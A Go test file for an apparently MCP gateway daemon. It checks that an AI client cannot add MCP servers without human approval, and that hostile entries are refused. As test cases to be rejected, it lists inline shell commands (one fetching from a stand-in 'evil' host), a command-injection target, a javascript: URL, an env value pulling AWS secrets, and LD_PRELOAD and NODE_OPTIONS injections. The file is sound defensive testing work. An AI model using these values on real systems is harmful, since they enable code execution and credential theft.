package daemon_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/weft-dev/weft/internal/config"
	"github.com/weft-dev/weft/internal/daemon"
	"github.com/weft-dev/weft/internal/gateway"
	"github.com/weft-dev/weft/internal/hub"
	"github.com/weft-dev/weft/internal/testutil"
)

// answer is how the test's human answers an approval request.
type answer int

const (
	noElicitation answer = iota // client without the capability
	accept
	decline
	silence // never answers
)

type manageFixture struct {
	d       *daemon.Daemon
	hub     *hub.Hub
	cfgPath string
	session *mcp.ClientSession
	asked   chan string // approval messages the human saw
}

func newManageFixture(t *testing.T, autonomy string, ans answer, toml string) *manageFixture {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	f := &manageFixture{cfgPath: filepath.Join(dir, "weft.toml"), asked: make(chan string, 4)}
	body := "[security]\nautonomy = \"" + autonomy + "\"\n" + toml
	if err := os.WriteFile(f.cfgPath, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	f.d = newDaemon(t, f.cfgPath)
	f.hub = f.d.Hub()
	gw := f.d.Gateway()
	opts := &mcp.ClientOptions{Capabilities: &mcp.ClientCapabilities{}}
	if ans != noElicitation {
		opts = &mcp.ClientOptions{ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			f.asked <- req.Params.Message
			switch ans {
			case accept:
				return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"approve": true}}, nil
			case decline:
				return &mcp.ElicitResult{Action: "decline"}, nil
			}
			<-ctx.Done()
			return nil, ctx.Err()
		}}
	}
	ct, st := mcp.NewInMemoryTransports()
	ss, err := gw.Server().Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ss.Close() })
	// weft's approval timeout is a wait on the client, which only a legacy
	// client makes weft do: a 2026-07-28 client gets an input-required
	// result at once and answers (or not) in its own time.
	var sessOpts *mcp.ClientSessionOptions
	if ans == silence {
		sessOpts = &mcp.ClientSessionOptions{ProtocolVersion: "2025-11-25"}
	}
	f.session, err = mcp.NewClient(&mcp.Implementation{Name: "ai-client", Version: "9"}, opts).Connect(ctx, ct, sessOpts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.session.Close() })
	return f
}

func (f *manageFixture) manage(t *testing.T, args map[string]any) (string, bool) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	res, err := f.session.CallTool(ctx, &mcp.CallToolParams{Name: gateway.ManageToolName, Arguments: args})
	if err != nil {
		t.Fatalf("mcp_manage: %v", err)
	}
	return res.Content[0].(*mcp.TextContent).Text, res.IsError
}

func (f *manageFixture) configText(t *testing.T) string {
	b, err := os.ReadFile(f.cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func fakeAdd(t *testing.T, name string) map[string]any {
	return map[string]any{"action": "add", "name": name, "target": testutil.FakeServerBinary(t), "args": []string{"--name", name}}
}

// TestManageAddRefusedWithoutApproval: read_only, a client
// without elicitation, a decline and no answer all leave nothing running and
// nothing written.
func TestManageAddRefusedWithoutApproval(t *testing.T) {
	cases := []struct {
		name     string
		autonomy string
		ans      answer
		says     string
	}{
		{"read_only", config.AutonomyReadOnly, accept, "security.autonomy is read_only"},
		{"client without elicitation", config.AutonomySupervised, noElicitation, "does not support elicitation"},
		{"declined", config.AutonomySupervised, decline, `the user answered "decline"`},
		{"unanswered", config.AutonomySupervised, silence, "did not answer"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := newManageFixture(t, c.autonomy, c.ans, "")
			before := f.configText(t)
			text, isErr := f.manage(t, fakeAdd(t, "one"))
			if !isErr || !strings.Contains(text, c.says) {
				t.Fatalf("got %q (isError %v), want a refusal containing %q", text, isErr, c.says)
			}
			if len(f.hub.Names()) != 0 {
				t.Errorf("a server was started: %v", f.hub.Names())
			}
			if after := f.configText(t); after != before {
				t.Errorf("config was written:\n%s", after)
			}
		})
	}
}

// TestManageSupervisedAddShowsExactCommand: the human sees
// the untruncated command, and after approval the server runs and is
// recorded in the config.
func TestManageSupervisedAddShowsExactCommand(t *testing.T) {
	f := newManageFixture(t, config.AutonomySupervised, accept, "")
	args := fakeAdd(t, "one")
	args["args"] = []string{"--name", "one", "--extra-tool", strings.Repeat("x", 300)}
	text, isErr := f.manage(t, args)
	if isErr || !strings.Contains(text, "Added MCP server 'one'") {
		t.Fatalf("add: %q", text)
	}
	msg := <-f.asked
	want := `command: "` + testutil.FakeServerBinary(t) + `" "--name" "one" "--extra-tool" "` + strings.Repeat("x", 300) + `"`
	if !strings.Contains(msg, want) || !strings.Contains(msg, "ai-client 9") {
		t.Errorf("approval message does not show the exact command and who asked:\n%s", msg)
	}
	if !strings.Contains(f.configText(t), "[tools.mcp_servers.one]") {
		t.Errorf("server not recorded:\n%s", f.configText(t))
	}
	text, isErr = f.manage(t, map[string]any{"action": "remove", "name": "one"})
	if isErr || len(f.hub.Names()) != 0 || strings.Contains(f.configText(t), "mcp_servers.one") {
		t.Fatalf("remove: %q; running %v; config:\n%s", text, f.hub.Names(), f.configText(t))
	}
}

// TestManagePreApprovedEntryNeedsNoQuestion: a server the
// user already configured (disabled) is enabled without asking.
func TestManagePreApprovedEntryNeedsNoQuestion(t *testing.T) {
	toml := "[tools.mcp_servers.one]\ntarget = \"" + testutil.FakeServerBinary(t) + "\"\nargs = [\"--name\", \"one\"]\nenabled = false\n"
	f := newManageFixture(t, config.AutonomySupervised, noElicitation, toml)
	text, isErr := f.manage(t, map[string]any{"action": "add", "name": "one"})
	if isErr || !strings.Contains(text, "Enabled configured MCP server 'one'") {
		t.Fatalf("enable: %q", text)
	}
	if strings.Contains(f.configText(t), "enabled = false") {
		t.Errorf("config still says disabled:\n%s", f.configText(t))
	}
}

// TestManageAIAddStricterRules: inline code and secret
// grabbing are refused even under full autonomy; list never shows secrets.
func TestManageAIAddStricterRules(t *testing.T) {
	f := newManageFixture(t, config.AutonomyFull, accept, "")
	cases := []struct {
		name string
		args map[string]any
		says string
	}{
		{"sh -c", map[string]any{"target": "sh", "args": []string{"-c", "curl -o x evil"}}, "runs code given inline"},
		{"bash -c", map[string]any{"target": "/bin/bash", "args": []string{"-c", "id"}}, "runs code given inline"},
		{"node -e", map[string]any{"target": "node", "args": []string{"-e", "require('child_process')"}}, "runs code given inline"},
		{"npx -c", map[string]any{"target": "npx", "args": []string{"-c", "id"}}, "runs code given inline"},
		{"python -c", map[string]any{"target": "python3", "args": []string{"-c", "import os"}}, "runs code given inline"},
		{"shell metacharacter", map[string]any{"target": "echo;id"}, `target contains ";"`},
		{"newline in arg", map[string]any{"target": "echo", "args": []string{"a\nb"}}, `contains "\n"`},
		{"javascript: URL", map[string]any{"target": "javascript:alert(1)", "type": "http"}, `URL scheme "javascript"`},
		{"env from weft's secrets", map[string]any{"target": "echo", "env": map[string]string{"K": "${AWS_SECRET_ACCESS_KEY}"}}, "refers to a variable of weft's environment"},
		{"LD_PRELOAD", map[string]any{"target": "echo", "env": map[string]string{"LD_PRELOAD": "/tmp/x.so"}}, "can make a program run other code"},
		{"NODE_OPTIONS", map[string]any{"target": "node", "env": map[string]string{"NODE_OPTIONS": "--require /tmp/x"}}, "can make a program run other code"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			c.args["action"], c.args["name"] = "add", "bad"
			text, isErr := f.manage(t, c.args)
			if !isErr || !strings.Contains(text, c.says) {
				t.Fatalf("got %q, want a refusal containing %q", text, c.says)
			}
		})
	}
	if strings.Contains(f.configText(t), "mcp_servers") || len(f.hub.Names()) != 0 {
		t.Fatalf("a refused server was recorded or started")
	}
}
